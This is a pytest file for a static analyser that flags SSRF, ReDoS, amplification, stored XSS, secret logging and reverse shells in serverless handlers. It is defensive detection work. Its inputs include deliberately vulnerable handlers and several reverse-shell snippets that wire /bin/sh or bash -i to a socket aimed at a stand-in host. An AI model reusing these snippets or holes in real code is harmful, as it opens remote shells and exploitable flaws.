"""Socket-level SSRF, ReDoS, resource amplification, stored XSS, reverse shells and the wider sensitive
logging (issue 14): one small handler each, asserting the exact sink, line and message."""

from __future__ import annotations

from pathlib import Path

import pytest

from fnaudit.engines.code.patterns import reverse_shells
from fnaudit.engines.code.redos import vulnerable
from fnaudit.engines.code.taint.credentials import credential_path
from tests.code.helpers import flows, fn, run, write_app
from tests.code.javascript.helpers import node_app

HTTP = "h:\n  handler: app.h\n  events:\n    - httpApi: POST /x\n"


def _py(tmp_path: Path, body: str) -> list[tuple[str, int]]:
    src = "import json, os, re, socket, time\n\n\ndef h(event, context):\n    b = json.loads(event['body'])\n" + body
    return flows(run(write_app(tmp_path, HTTP, {"app.py": src})), "h")


def _js(tmp_path: Path, body: str, tail: str = "") -> list[tuple[str, int]]:
    src = (
        "const net = require('net');\n\nexports.handler = async (event) => {\n  const b = JSON.parse(event.body);\n"
        + body
        + "\n};\n"
        + tail
    )
    return flows(run(node_app(tmp_path, {"app.js": src})), "h")


# -- the regex analysis -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pattern",
    [r"^(a+)+$", r"(\w+\s?)*$", r"(.*a){20}", r"^(\d+)*$", r"(ba|\wa)+$", r"^([a-z0-9]+-?)*$"],
)
def test_backtracking_patterns_are_vulnerable(pattern: str) -> None:
    assert vulnerable(pattern) is not None


@pytest.mark.parametrize(
    "pattern",
    [r"^[a-z]+$", r"(ab+)+", r"^([a-z0-9]+\.)+[a-z]{2,}$", r"^\d{4}-\d{2}-\d{2}$", r"^[a-z0-9]+(?:-[a-z0-9]+)*$", "("],
)
def test_linear_or_unparseable_patterns_are_not(pattern: str) -> None:
    assert vulnerable(pattern) is None


def test_javascript_named_groups_parse() -> None:
    assert vulnerable(r"(?<word>\w+)+$", js=True) == "nested quantifiers"


# -- Python ------------------------------------------------------------------------------------


def test_socket_host_is_ssrf_but_a_constant_host_with_an_event_port_is_not(tmp_path: Path) -> None:
    got = _py(
        tmp_path,
        "    socket.create_connection(('db.example.com', int(b['port'])))\n"
        "    socket.create_connection((b['host'], 80))\n"
        "    s = socket.socket()\n"
        "    s.connect((b['host'], 25))\n",
    )
    assert got == [("ssrf", 7), ("ssrf", 9)]


def test_numeric_cast_keeps_amplification_and_clears_injection(tmp_path: Path) -> None:
    # before: int() cleared everything, so range(int(n)) was silent; os.system of the number stays silent
    got = _py(tmp_path, "    n = int(b['n'])\n    os.system('echo %d' % n)\n    for i in range(n):\n        pass\n")
    assert got == [("amplification", 8)]


def test_a_number_from_the_event_is_not_runtime_state(tmp_path: Path) -> None:
    src = "import json\nSEEN = []\n\n\ndef h(event, context):\n    SEEN.append(int(json.loads(event['body'])['n']))\n"
    result = run(write_app(tmp_path, HTTP, {"app.py": src}))
    facts = fn(result, "h").code_facts
    assert facts is not None and facts.state_writes == ()


def test_bounds_clear_amplification(tmp_path: Path) -> None:
    got = _py(
        tmp_path,
        "    a = min(int(b['a']), 100)\n"
        "    time.sleep(a)\n"
        "    c = int(b['c'])\n"
        "    if c > 100:\n"
        "        return {}\n"
        "    time.sleep(c)\n"
        "    d = int(b['d'])\n"
        "    if d <= 10:\n"
        "        time.sleep(d)\n"
        "    time.sleep(d)\n",
    )
    assert got == [("amplification", 15)]


def test_repetition_of_a_literal_by_an_event_number(tmp_path: Path) -> None:
    got = _py(tmp_path, "    x = 'ab' * int(b['n'])\n    y = b['name'] * 2\n    z = 3 * int(b['m'])\n")
    assert got == [("amplification", 6)]


def test_redos_sinks(tmp_path: Path) -> None:
    got = _py(
        tmp_path,
        "    re.match(r'^(a+)+$', b['s'])\n"
        "    re.match(r'^[a-z]+$', b['s'])\n"
        "    re.compile(b['p'])\n"
        "    re.search(re.escape(b['q']), 'text')\n"
        "    re.match(r'^(a+)+$', 'constant')\n",
    )
    assert got == [("redos", 6), ("redos", 8)]


def test_stored_xss_needs_a_rendered_content_type(tmp_path: Path) -> None:
    src = (
        "import json, boto3\ns3 = boto3.client('s3')\n\n\ndef h(event, context):\n"
        "    b = json.loads(event['body'])\n"
        "    s3.put_object(Bucket='x', Key='a', Body=b['h'], ContentType='text/html')\n"
        "    s3.put_object(Bucket='x', Key='a', Body=b['h'], ContentType='application/json')\n"
        "    s3.put_object(Bucket='x', Key='a', Body=b['h'])\n"
        "    s3.put_object(Bucket='x', Key='a', Body='<p>', ContentType=b['type'])\n"
    )
    result = run(write_app(tmp_path, HTTP, {"app.py": src}))
    facts = fn(result, "h").code_facts
    assert facts is not None
    assert [(f.sink.kind, f.sink.loc.line, f.sink.call) for f in facts.flows if f.sink.kind != "store"] == [
        ("stored-xss", 7, "s3.put_object (ContentType text/html)"),
        ("stored-xss", 10, "s3.put_object (ContentType from the event)"),
    ]


def test_logged_and_returned_environment_runtime_secrets_and_credentials(tmp_path: Path) -> None:
    src = (
        "import os, boto3\nsm = boto3.client('secretsmanager')\nssm = boto3.client('ssm')\n\n\n"
        "def h(event, context):\n"
        "    print(os.environ)\n"
        "    print(sm.get_secret_value(SecretId='x')['SecretString'])\n"
        "    print(ssm.get_parameter(Name='p', WithDecryption=True))\n"
        "    print(ssm.get_parameter(Name='p'))\n"
        "    print(event['headers']['authorization'], event['headers']['user-agent'])\n"
        "    return {'body': str(os.environ)}\n"
    )
    result = run(write_app(tmp_path, HTTP, {"app.py": src}), select=("CODE014",))
    got = sorted((f.location.line, f.severity.value, f.message) for f in result.findings)
    assert got == [
        (
            7,
            "high",
            "function h: the whole environment (os.environ) is written to the logs, with the function's AWS "
            "credentials (AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN)",
        ),
        (
            8,
            "medium",
            "function h: a secret fetched at runtime (Secrets Manager, get_secret_value) is written to the logs",
        ),
        (
            9,
            "medium",
            "function h: a secret fetched at runtime (SSM SecureString parameter, get_parameter with "
            "WithDecryption=True) is written to the logs",
        ),
        (11, "medium", "function h: the caller's credentials (event.headers.authorization) are written to the logs"),
        (
            12,
            "high",
            "function h: the whole environment (os.environ) is returned to the caller, with the function's AWS "
            "credentials (AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN)",
        ),
    ]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (("authorizationToken",), True),
        (("headers", "Authorization"), True),
        (("multiValueHeaders", "cookie", "[]"), True),
        (("cookies",), True),
        (("headers", "user-agent"), False),
        (("body", "authorization"), False),
    ],
)
def test_credential_paths(path: tuple[str, ...], expected: bool) -> None:
    assert credential_path(path) is expected


# -- JavaScript / TypeScript ---------------------------------------------------------------------


def test_js_socket_sinks(tmp_path: Path) -> None:
    got = _js(
        tmp_path,
        "  net.connect(Number(b.port), 'db.example.com');\n"
        "  net.connect(25, b.host);\n"
        "  const s = new net.Socket();\n"
        "  s.connect({ host: b.host, port: 1 });",
    )
    assert got == [("ssrf", 6), ("ssrf", 8)]


def test_js_amplification_and_bounds(tmp_path: Path) -> None:
    got = _js(
        tmp_path,
        "  const n = parseInt(b.n, 10);\n"
        "  for (let i = 0; i < n; i++) {}\n"
        "  const m = Math.min(Number(b.m), 50);\n"
        "  for (let i = 0; i < m; i++) {}\n"
        "  const k = Math.max(+b.k, 1);\n"
        "  'x'.repeat(k);\n"
        "  if (n > 100) return;\n"
        "  new Array(n);",
    )
    assert got == [("amplification", 6), ("amplification", 10)]


def test_js_redos(tmp_path: Path) -> None:
    got = _js(
        tmp_path,
        "  /^(a+)+$/.test(b.s);\n  /^[a-z]+$/.test(b.s);\n  b.s.replace(/(\\w+\\s?)*$/, '');\n  new RegExp(b.p);",
    )
    assert got == [("redos", 5), ("redos", 7), ("redos", 8)]


# -- reverse shells ------------------------------------------------------------------------------


def test_python_reverse_shell_shapes() -> None:
    dup = (
        "import os, pty, socket\ns = socket.socket()\ns.connect(('h', 1))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"
    )
    assert [(p.kind, p.loc.line) for p in reverse_shells(dup, "a.py", "python")] == [("reverse-shell", 4)]
    # a socket and a dup2 of a file (not the socket): no shell wired to the network
    other = "import os, socket\ns = socket.socket()\nf = open('x')\nos.dup2(f.fileno(), 1)\nos.system('sh')\n"
    assert reverse_shells(other, "a.py", "python") == []


def test_javascript_reverse_shell_shapes() -> None:
    src = "const sh = cp.spawn('/bin/sh', []);\nconst c = net.connect(1, 'h');\nsh.stdout.pipe(c);\n"
    assert [(p.kind, p.loc.line) for p in reverse_shells(src, "a.js", "node")] == [("reverse-shell", 3)]
    quiet = "const t = cp.spawn('/opt/tool', []);\nconst c = net.connect(1, 'h');\nt.stdout.pipe(c);\n"
    assert reverse_shells(quiet, "a.js", "node") == []
    typed = "const sh: ChildProcess = spawn('bash');\nconst c: Socket = new net.Socket();\nc.pipe(sh.stdin);\n"
    assert [(p.kind, p.loc.line) for p in reverse_shells(typed, "a.ts", "node")] == [("reverse-shell", 3)]


def test_a_socket_given_as_the_shells_streams_is_a_reverse_shell() -> None:
    """Found by bench/frameworks.py --weaknesses: the socket object itself (not its fileno()) as the streams of a
    Python subprocess, and a Node shell spawned with the socket as its stdio."""
    py = (
        "import socket, subprocess\nconn = socket.socket()\nconn.connect(('h', 9001))\n"
        "subprocess.Popen(['/bin/bash', '-i'], stdin=conn, stdout=conn, stderr=conn)\n"
    )
    assert [(p.kind, p.loc.line) for p in reverse_shells(py, "a.py", "python")] == [("reverse-shell", 4)]
    piped = "import socket, subprocess\nconn = socket.socket()\nsubprocess.run(['/bin/sh'], stdout=subprocess.PIPE)\n"
    assert reverse_shells(piped, "a.py", "python") == []
    js = (
        "const net = require('net');\nconst { spawn } = require('child_process');\n"
        "const sock = net.connect(9001, 'h');\nspawn('/bin/bash', ['-i'], { stdio: [sock, sock, sock] });\n"
    )
    assert [(p.kind, p.loc.line) for p in reverse_shells(js, "a.js", "node")] == [("reverse-shell", 4)]
    inherit = "const sock = net.connect(9001, 'h');\nspawn('/bin/bash', ['-c', 'ls'], { stdio: ['inherit'] });\n"
    assert reverse_shells(inherit, "a.js", "node") == []


def test_one_setting_read_through_an_alias_of_the_environment_is_not_a_leak(tmp_path: Path) -> None:
    src = (
        "import os\n\n\ndef h(event, context):\n"
        "    e = os.environ\n"
        "    print(e.get('STAGE'))\n"
        "    print(e['DB_PASSWORD'])\n"
        "    return {'stage': e.get('STAGE')}\n"
    )
    result = run(write_app(tmp_path, HTTP, {"app.py": src}))
    facts = fn(result, "h").code_facts
    assert facts is not None
    assert [(leak.kind, leak.loc.line, leak.name) for leak in facts.log_leaks] == [("secret", 7, "DB_PASSWORD")]


def test_js_stored_xss_through_params_objects(tmp_path: Path) -> None:
    src = (
        "const { Upload } = require('@aws-sdk/lib-storage');\n"
        "exports.handler = async (event, context, client, v2) => {\n"
        "  const b = JSON.parse(event.body);\n"
        "  await new Upload({ client, params: { Body: b.html, ContentType: 'text/html' } }).done();\n"
        "  const params = { Bucket: 'x', Key: 'a', Body: b.html, ContentType: 'text/html' };\n"
        "  await v2.putObject(params).promise();\n"
        "  const data = { Bucket: 'x', Key: 'a', Body: b.html, ContentType: 'application/json' };\n"
        "  await v2.putObject(data).promise();\n"
        "};\n"
    )
    result = run(node_app(tmp_path, {"app.js": src}))
    facts = fn(result, "h").code_facts
    assert facts is not None
    assert [(f.sink.kind, f.sink.loc.line, f.sink.call) for f in facts.flows if f.sink.kind != "store"] == [
        ("stored-xss", 4, "new Upload (ContentType text/html)"),
        ("stored-xss", 6, "v2.putObject (ContentType text/html)"),
    ]


def test_js_redos_through_local_and_later_constants(tmp_path: Path) -> None:
    got = _js(
        tmp_path,
        "  const local = /^(\\d+)+$/;\n  local.test(b.n);\n  LATER.exec(b.s);",
        "const LATER = /(a|a)*(x+)+$/;\n",
    )
    assert got == [("redos", 6), ("redos", 7)]
